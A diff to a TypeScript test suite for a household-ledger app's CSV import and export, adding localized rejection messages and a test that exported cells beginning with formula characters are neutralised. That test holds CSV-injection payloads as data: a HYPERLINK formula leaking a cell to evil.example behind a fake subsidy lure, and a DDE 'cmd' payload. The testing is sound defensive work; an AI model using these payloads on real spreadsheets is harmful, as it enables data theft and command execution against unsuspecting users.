@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { DEMO, startTestApp, type TestApp } from './support/test-app';
 
 describe('the council imports and exports the household ledger (台账) as CSV', () => {
@@ -34,12 +35,13 @@ describe('the council imports and exports the household ledger (台账) as CSV',
     expect(await t.sql(`SELECT count(*) FROM member`)).toEqual(before);
   });
 
-  it('imports the good rows and explains each rejected one', async () => {
+  it('imports the good rows and explains each rejected one, in the language asked for', async () => {
     const response = await t
       .http()
       .post('/api/households/import')
       .set('Authorization', `Bearer ${admin}`)
       .set('Content-Type', 'text/csv')
+      .set('accept-language', 'en')
       .send(csv);
     expect(response.status).toBe(200);
     expect(response.body).toMatchObject({
@@ -49,15 +51,25 @@ describe('the council imports and exports the household ledger (台账) as CSV',
       membersCreated: 3,
       vehiclesCreated: 2,
     });
-    const reasons = Object.fromEntries(
-      (response.body.rejected as { row: number; reason: string }[]).map((r) => [r.row, r.reason]),
+    type Rejected = { row: number; reason: string; params?: object; message: string };
+    const rejected = Object.fromEntries(
+      (response.body.rejected as Rejected[]).map((r) => [r.row, r]),
     );
-    expect(Object.keys(reasons).map(Number)).toEqual([5, 6, 7, 8, 9]);
-    expect(reasons[5]).toContain('address');
-    expect(reasons[6]).toContain('phone');
-    expect(reasons[7]).toContain('车牌');
-    expect(reasons[8]).toContain('superuser');
-    expect(reasons[9]).toContain('another household');
+    expect(Object.keys(rejected).map(Number)).toEqual([5, 6, 7, 8, 9]);
+    expect(rejected[5]).toMatchObject({ reason: 'ledger.address_missing' });
+    expect(rejected[5]!.message).toContain('address');
+    expect(rejected[6]).toMatchObject({ reason: 'ledger.phone_invalid' });
+    expect(rejected[6]!.message).toContain('phone');
+    expect(rejected[7]).toMatchObject({ reason: 'plate.invalid' });
+    expect(rejected[7]!.message).toContain('plate');
+    expect(rejected[8]).toMatchObject({
+      reason: 'ledger.role_unknown',
+      params: { value: 'superuser' },
+    });
+    expect(rejected[8]!.message).toContain('superuser');
+    expect(rejected[9]).toMatchObject({ reason: 'ledger.plate_elsewhere' });
+    expect(rejected[9]!.message).toContain('another household');
+    // (A plate is written as painted, 京A12345, in either language.)
 
     const [vehicle] = await t.sql<{ plate: string; plate_color: string }>(
       `SELECT plate, plate_color FROM vehicle v JOIN member m ON m.id = v.owner_member_id WHERE m.phone = '13700000001'`,
@@ -84,6 +96,50 @@ describe('the council imports and exports the household ledger (台账) as CSV',
     expect(text).toContain('address,name,phone,role,partyMember,volunteer,plate,plateColor');
     expect(text).toContain('下岗胡同40号,钱大爷,13700000001,resident,true,false,京A·7K001,blue');
     expect(text).toContain('下岗胡同41号,孙阿姨,13700000003,resident');
+  });
+
+  it('writes the report in Chinese by default, one language per message', async () => {
+    const response = await t
+      .http()
+      .post('/api/households/import?dryRun=true')
+      .set('Authorization', `Bearer ${admin}`)
+      .set('Content-Type', 'text/csv')
+      .send(csv);
+    const messages = (response.body.rejected as { row: number; message: string }[]).map(
+      (r) => r.message,
+    );
+    expect(messages[0]).toBe('缺少门牌');
+    expect(messages[2]).toContain('车牌格式不正确');
+    for (const message of messages) expect(message).not.toMatch(/[A-Za-z]{4,} [a-z]+/);
+  });
+
+  it('exports formula-looking text as inert text, whoever typed it', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?leak="&C2,"点我领补贴")';
+    const imported = await t
+      .http()
+      .post('/api/households/import')
+      .set('Authorization', `Bearer ${admin}`)
+      .set('Content-Type', 'text/csv')
+      .send(
+        [
+          'address,name,phone',
+          `"@SUM(1+1)号","${hostile.replaceAll('"', '""')}",13700000099`,
+          `下岗胡同46号,+cmd|' /C calc'!A0,13700000098`,
+        ].join('\n'),
+      );
+    expect(imported.body.rejected).toEqual([]);
+    const exported = await t
+      .http()
+      .get('/api/households/export.csv')
+      .set('Authorization', `Bearer ${admin}`);
+    const cells: string[][] = parse(exported.text.replace(/^\uFEFF/, ''), {});
+    const byPhone = new Map(cells.map((row) => [row[2], row]));
+    const first = byPhone.get('13700000099')!;
+    expect(first[0]).toBe("'@SUM(1+1)号");
+    expect(first[1]).toBe(`'${hostile}`);
+    expect(byPhone.get('13700000098')![1]).toBe("'+cmd|' /C calc'!A0");
+    // Nothing a spreadsheet would run: no cell starts with = + - @.
+    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
   });
 
   it('re-importing the export changes nothing but counts members as updated', async () => {
